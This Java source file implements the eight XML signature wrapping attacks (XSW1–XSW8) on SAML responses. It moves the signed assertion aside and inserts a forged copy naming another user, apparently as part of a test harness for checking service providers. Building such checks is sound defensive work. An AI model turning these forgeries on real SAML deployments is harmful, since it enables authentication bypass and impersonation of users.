package io.portcullis.ear;

import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.UnaryOperator;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;
import org.w3c.dom.NodeList;

/**
 * The eight signature wrappings of "On Breaking SAML" (Somorovsky and others, 2012): what was signed stays somewhere in the
 * document and verifies, what is read is forged.
 */
final class SamlWrapping {
    static final String FORGED = "forged@corp.example";

    private static final String SIGNATURE = "http://www.w3.org/2000/09/xmldsig#";
    private static final String PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol";

    private SamlWrapping() {}

    /** The first two of a response that is signed as a whole. */
    static Map<String, UnaryOperator<Document>> ofResponse() {
        Map<String, UnaryOperator<Document>> attacks = new LinkedHashMap<>();
        attacks.put(
                "XSW1: the signed response inside the signature of a forged one", document -> wrapped(document, true));
        attacks.put(
                "XSW2: the signed response before the signature of a forged one", document -> wrapped(document, false));
        return attacks;
    }

    /** The others, of a response whose assertion is signed. */
    static Map<String, UnaryOperator<Document>> ofAssertion() {
        Map<String, UnaryOperator<Document>> attacks = new LinkedHashMap<>();
        attacks.put("XSW3: forged before signed", document -> {
            Element signed = SamlIdp.assertion(document);
            signed.getParentNode().insertBefore(unsigned(forged(signed)), signed);
            return document;
        });
        attacks.put("XSW4: signed inside forged", document -> {
            Element signed = SamlIdp.assertion(document);
            Element forged = unsigned(forged(signed));
            signed.getParentNode().replaceChild(forged, signed);
            forged.appendChild(signed);
            return document;
        });
        attacks.put("XSW5: forged with the signature, signed at the end without", document -> {
            Element signed = SamlIdp.assertion(document);
            Element forged = forged(signed);
            signed.getParentNode().insertBefore(forged, signed);
            document.getDocumentElement().appendChild(unsigned(signed));
            return document;
        });
        attacks.put("XSW6: signed inside the signature of forged", document -> {
            Element signed = SamlIdp.assertion(document);
            Element forged = forged(signed);
            signed.getParentNode().replaceChild(forged, signed);
            signature(forged).appendChild(unsigned(signed));
            return document;
        });
        attacks.put("XSW7: forged inside extensions", document -> {
            Element signed = SamlIdp.assertion(document);
            Element extensions = document.createElementNS(PROTOCOL, "samlp:Extensions");
            extensions.appendChild(unsigned(forged(signed)));
            signed.getParentNode().insertBefore(extensions, signed);
            return document;
        });
        attacks.put("XSW8: signed inside an object of the signature of forged", document -> {
            Element signed = SamlIdp.assertion(document);
            Element forged = forged(signed);
            signed.getParentNode().replaceChild(forged, signed);
            Element object = document.createElementNS(SIGNATURE, "ds:Object");
            object.appendChild(unsigned(signed));
            signature(forged).appendChild(object);
            return document;
        });
        return attacks;
    }

    private static Document wrapped(Document document, boolean inside) {
        Element root = document.getDocumentElement();
        Element original = (Element) root.cloneNode(true);
        original.removeChild(signature(original));
        rename(root);
        Element signature = signature(root);
        if (inside) {
            signature.appendChild(original);
        } else {
            root.insertBefore(original, signature);
        }
        return document;
    }

    /** A copy that names somebody else, under another id. */
    private static Element forged(Element assertion) {
        Element forged = (Element) assertion.cloneNode(true);
        rename(forged);
        return forged;
    }

    private static void rename(Element element) {
        element.setAttribute("ID", "_forged");
        NodeList names = element.getElementsByTagNameNS(SamlIdp.ASSERTION, "NameID");
        for (int i = 0; i < names.getLength(); i++) {
            names.item(i).setTextContent(FORGED);
        }
        NodeList values = element.getElementsByTagNameNS(SamlIdp.ASSERTION, "AttributeValue");
        for (int i = 0; i < values.getLength(); i++) {
            values.item(i).setTextContent(FORGED);
        }
    }

    private static Element unsigned(Element element) {
        element.removeChild(signature(element));
        return element;
    }

    private static Element signature(Element element) {
        for (Node child = element.getFirstChild(); child != null; child = child.getNextSibling()) {
            if (child instanceof Element candidate && "Signature".equals(candidate.getLocalName())) {
                return candidate;
            }
        }
        throw new IllegalStateException("There is no signature");
    }
}
